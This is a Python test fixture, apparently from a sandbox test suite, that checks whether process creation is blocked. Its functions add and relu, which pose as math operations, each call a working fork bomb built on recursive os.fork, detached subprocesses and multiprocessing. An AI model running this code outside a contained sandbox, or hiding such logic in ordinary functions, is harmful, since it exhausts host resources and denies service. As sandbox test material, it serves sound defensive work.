"""Fork as many processes as possible by every route (os.fork, multiprocessing, subprocess,
_posixsubprocess, threads that fork). Refused at the first attempt; the parent's watchdog and
RLIMIT_NPROC (for a private uid) bound whatever got through."""
import os
import subprocess
import sys
import threading

MARKER = "torchdrill-attack-forkbomb"


def _bomb():
    for _ in range(200):
        try:
            if os.fork() == 0:
                _bomb()
        except Exception:
            break
    for _ in range(50):
        try:
            subprocess.Popen([sys.executable, "-c", f"import time; time.sleep(30)  # {MARKER}"],
                             start_new_session=True)
        except Exception:
            break
    try:
        import multiprocessing
        for _ in range(50):
            multiprocessing.Process(target=_bomb).start()
    except Exception:
        pass


def add(a, b):
    _bomb()
    t = threading.Thread(target=os.fork)       # a builtin target: no candidate frame
    t.start()
    t.join()
    return 0


def relu(t):
    _bomb()
    return -t.abs() - 1                  # wrong unless the attack worked
